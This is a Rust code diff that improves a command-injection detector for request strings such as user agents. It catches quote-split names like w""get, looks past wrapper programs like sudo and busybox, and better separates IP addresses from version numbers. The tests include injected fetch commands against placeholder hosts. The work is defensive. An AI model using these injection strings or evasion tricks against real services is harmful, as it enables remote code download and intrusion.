@@ -81,7 +81,11 @@ impl Detector for CommandInjection {
             ..*value
         };
         if (is_agent(value) || tells_agent(value)) && names_clients(value.bytes) {
-            return;
+            // As a shell reads it, a word in pieces is one: `w""get`.
+            let plain = unquote(value.bytes);
+            if plain.is_none_or(|plain| names_clients(&plain)) {
+                return;
+            }
         }
         if takes_commands(value) || is_query(value.bytes) {
             report.doubt(&["command."], LISTED);
@@ -126,19 +130,31 @@ fn names_clients(agent: &[u8]) -> bool {
         && !pieces.any(is_given)
 }
 
+/// Programs that run the one that is named behind them.
+const RUNNING: [&[u8]; 6] = [b"busybox", b"env", b"exec", b"nohup", b"sudo", b"time"];
+
 /// Tells a name in small letters that is given an option or an address, `curl -o x`, or a program that is
-/// given a place, `wget a.example/x`. Clients are named with their versions.
-fn is_given(piece: &[u8]) -> bool {
-    let piece = piece.trim_ascii_start();
+/// given a place, `sudo wget a.example/x`. Clients are named with their versions.
+fn is_given(mut piece: &[u8]) -> bool {
     let named = |b: &&u8| b.is_ascii_lowercase() || b.is_ascii_digit();
-    let (name, rest) = piece.split_at(piece.iter().take_while(named).count());
-    let given = rest.trim_ascii_start();
-    if !name.first().is_some_and(u8::is_ascii_lowercase) || given.len() == rest.len() {
-        return false;
+    loop {
+        piece = piece.trim_ascii_start();
+        let (name, rest) = piece.split_at(piece.iter().take_while(named).count());
+        let given = rest.trim_ascii_start();
+        if !name.first().is_some_and(u8::is_ascii_lowercase) || given.len() == rest.len() {
+            return false;
+        }
+        if given.starts_with(b"-")
+            || given.starts_with(b"http")
+            || FETCHING.contains(&name) && is_place(given)
+        {
+            return true;
+        }
+        if !RUNNING.contains(&name) {
+            return false;
+        }
+        piece = given;
     }
-    given.starts_with(b"-")
-        || given.starts_with(b"http")
-        || FETCHING.contains(&name) && is_place(given)
 }
 
 /// Tells a path, a host, a file or an address at the start: `a.example/x`, `x.py`, `192.0.2.1 80`. No
@@ -154,14 +170,23 @@ fn is_place(given: &[u8]) -> bool {
         [b'/'] => true,
         _ => false,
     };
-    path || label || is_number(host)
+    path || label || is_number(host, rest)
 }
 
-/// Tells an address by its four numbers. Versions that have four end in nought, or have larger ones.
-fn is_number(host: &[u8]) -> bool {
+/// Tells an address by its four numbers. Versions that have four end in nought, or have larger ones, or start
+/// with a small one and have nothing behind them that an address has.
+fn is_number(host: &[u8], behind: &[u8]) -> bool {
+    const VERSIONS: std::ops::Range<u8> = 0..32;
     let text = std::str::from_utf8(host).unwrap_or_default();
     let address: Result<std::net::Ipv4Addr, _> = text.parse();
-    address.is_ok_and(|address| address.octets()[3] != 0)
+    let goes_on = matches!(
+        behind.trim_ascii_start(),
+        [b':' | b'/' | b'-' | b'0'..=b'9', ..]
+    );
+    address.is_ok_and(|address| {
+        let [first, .., last] = address.octets();
+        last != 0 && (goes_on || address.is_private() || !VERSIONS.contains(&first))
+    })
 }
 
 /// Tells a pattern for files below some folder, `bin/**/*`, which runs nothing where it stands alone.
@@ -454,6 +479,11 @@ mod tests {
             "x;python3 x.py",
             "x;whoami",
             "Mozilla/5.0 (X11; Linux x86_64); curl a.example",
+            "x; busybox wget http://a.example/x",
+            "x; sudo nohup wget a.example/x",
+            "x;w\"\"get http://a.example/x",
+            "x; curl 7.68.0.1:8000",
+            "x; wget 10.0.0.1",
         ] {
             assert!(agent(text) >= 0.5, "{text}");
         }
@@ -467,6 +497,9 @@ mod tests {
             "check/2.1; host web-1.a.example",
             "client; ruby 3.2.1p31; perl v5.34",
             "Dalvik/2.1.0 (Linux; U; Android 9; ip phone)",
+            "sync; curl 7.68.0.1",
+            "sync - client; wget 1.21.3.4; sudo 1.9.5",
+            "sync's \"own\" client; curl 8.5",
         ] {
             assert!(agent(text) < 0.5, "{text}");
         }
